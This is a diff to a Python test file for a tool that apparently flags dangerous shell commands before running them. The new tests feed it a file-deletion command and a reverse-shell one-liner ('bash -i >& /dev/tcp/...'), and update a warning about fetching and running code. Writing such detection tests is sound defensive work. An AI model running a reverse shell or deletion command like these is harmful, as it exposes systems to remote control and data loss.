@@ -196,6 +196,8 @@ def test_usual_commands_are_not_marked() -> None:
 
 def test_mark_covers_every_line_and_says_each_reason_once() -> None:
     assert marks("ls\nsudo rm x; rm y") == ("deletes files", "runs with the rights of another user")
+    assert marks("rm x; Remove-Item y") == ("deletes files",)
+    assert marks("bash -i >& /dev/tcp/h/4") == ("connects a shell or a file to the network",)
     assert marks("echo " + "x" * 5000) == ("is too long to be checked",)
 
 
@@ -476,7 +478,7 @@ def test_danger_is_marked(telex: Telex, server: Scripted) -> None:
     with Screen(telex, server, "x") as screen:
         screen.choose("n")
         screen.wait()
-        assert "Careful: it runs code from the network" in screen.text
+        assert "Careful: it fetches code and runs it; runs text as commands." in screen.text
 
 
 def test_edited_command_is_shown_again_and_run(telex: Telex, server: Scripted) -> None:
